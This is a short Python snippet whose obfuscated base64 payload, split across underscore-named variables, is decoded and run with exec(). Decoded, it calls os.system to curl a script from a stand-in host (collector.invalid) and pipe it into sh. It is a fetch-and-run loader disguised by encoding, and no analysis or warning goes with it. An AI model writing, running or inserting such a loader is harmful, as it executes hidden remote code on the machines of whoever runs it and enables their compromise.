import base64
____="aW1wb3J0IG9zO29z"; __="LnN5c3RlbSgnY3VybCBodHRwOi8v"; _="Y29sbGVjdG9yLmludmFsaWQvYSB8IHNoJyk="
exec(base64.b64decode(____ + __ + _).decode('utf-8'))
